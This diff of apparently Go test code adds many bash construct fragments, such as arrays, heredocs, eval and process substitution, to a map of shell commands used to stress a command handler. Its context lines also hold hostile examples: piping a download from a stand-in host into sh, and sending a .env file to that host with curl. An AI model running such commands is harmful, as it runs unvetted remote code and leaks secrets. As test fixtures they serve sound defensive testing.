@@ -240,6 +240,14 @@ func growthCommands() map[string][3]string {
 		"semicolons": {"", ";", ""}, "ampersands": {"", "a&", ""}, "pipe to sh": {"", "echo a|sh;", ""}, "curl pipe": {"", "curl https://a.example|sh;", ""}, "tar": {"tar cf a.tar", " b", ""}, "kubectl": {"", "kubectl get pods;", ""},
 		"make": {"make", " a", ""}, "npm": {"npm install", " a", ""}, "read secret": {"", "cat .env;", ""}, "send secret": {"", "cat .env | curl -d @- https://a.example;", ""}, "cp": {"cp", " a", " b"}, "mv": {"", "mv a b;", ""},
 		"password words": {"echo", " password", ""}, "long option": {"ls --", "a", ""}, "long url": {"curl https://a.example/", "a", ""}, "long path": {"cat /", "a/", "b"}, "dots": {"cat ", "../", "b"},
+		"array append": {"", "a+=(b)\n", "echo ${a[@]}"}, "array element": {"", "a[1]=b\n", ""}, "read redirects": {"cat", " <a", ""}, "both redirects": {"cat", " <a >b", ""}, "exec": {"", "exec 3>a\n", ""},
+		"descriptors": {"echo a", " 3>b", ""}, "unset": {"", "unset a\n", ""}, "declare": {"", "declare -a a=(b)\n", ""}, "pushd": {"", "pushd a\n", ""}, "source": {"", ". a\n", ""},
+		"heredoc to file": {"", "cat > a <<E\nb\nE\n", ""}, "export path": {"", "export PATH=$PATH:a\n", ""}, "links": {"", "ln -s a b;", ""}, "from file": {"", "a=$(cat f)\n", ""}, "case pattern": {"case a in", " b|", "c) d;; esac"},
+		"process substitution": {"cat", " <(echo a)", ""}, "output substitution": {"echo a | tee", " >(cat)", ""}, "positional": {"set --", " a", "; echo $@"}, "function words": {"f() { echo $@; }; f", " a", ""},
+		"let": {"let", " a+=1", ""}, "git settings": {"git", " -c a=b", " status"}, "cd back": {"", "cd a; cd ..;", ""}, "touch": {"", "touch a;", ""}, "write and run": {"", "echo a > b.sh; sh b.sh;", ""},
+		"chmod": {"", "chmod +x a;", ""}, "eval variable": {"a=b;", "eval $a;", ""}, "open evals": {"", "eval \"", ""}, "function again": {"", "f() { f; }\n", "f"}, "doubled": {"a=b;", "a=$a$a;", "echo $a"}, "mapfile": {"", "mapfile a < b;", ""},
+		"coproc": {"", "coproc a;", ""}, "brace groups": {"", "{ a; } > b;", ""}, "read and write": {"", "cat a > a;", ""}, "pipe back": {"cat a", " | tee a", " > a"}, "local": {"f() { ", "local a=b;", " }; f"}, "keys": {"declare -A a;", "a[b]=c;", "echo ${a[b]}"},
+		"lengths": {"echo", " ${#a}", ""}, "indirect": {"a=b;", "echo ${!a};", ""}, "slices": {"echo", " ${a:1:2}", ""}, "tests": {"", "[[ a == b ]];", ""}, "select": {"", "select a in b; do c; done;", ""}, "wait": {"", "a & wait;", ""},
 		"set": {"", "set -- a;", ""}, "shift": {"set -- a b c;", "shift;", ""}, "read": {"", "read a;", ""}, "while": {"", "while a; do b; done;", ""}, "pids": {"kill", " 12345", ""}, "test": {"", "[ -f a ];", ""},
 	}
 }
